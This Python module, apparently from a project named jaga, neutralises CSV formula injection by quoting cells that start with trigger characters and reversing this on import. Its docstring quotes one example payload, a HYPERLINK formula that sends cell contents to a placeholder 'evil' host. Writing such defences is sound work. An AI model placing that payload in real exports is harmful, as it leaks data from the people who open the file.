"""CSV cells that a spreadsheet will not run as formulas (OWASP "CSV injection").

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets: a name such as `=HYPERLINK("http://evil/?"&A1)` in an export would send other cells
away when an officer opens the file. OWASP's advice is to prefix such a cell with a single quote, which
spreadsheets show as text. jaga does that in every CSV it writes, and undoes it when it reads a CSV back,
so that an export re-imports exactly: a value that already starts with quotes before a trigger character
gets one more, which keeps the escaping reversible for every string.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any, Protocol

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _quoted_trigger(value: str) -> bool:
    """`value` is quotes (possibly none) followed by a trigger character."""
    return value.lstrip("'").startswith(TRIGGERS)


def neutralise(value: str) -> str:
    """The cell as written to a CSV file: a leading quote before anything a spreadsheet would evaluate."""
    return "'" + value if _quoted_trigger(value) else value


def restore(value: str) -> str:
    """The value a neutralised cell stood for (`restore(neutralise(v)) == v` for every string)."""
    if value.startswith("'") and _quoted_trigger(value[1:]):
        return value[1:]
    return value


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeCsvWriter:
    """A `csv.writer` whose string cells are neutralised; numbers and empty cells pass as they are."""

    def __init__(self, writer: _Writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(cell) if isinstance(cell, str) else cell for cell in row])
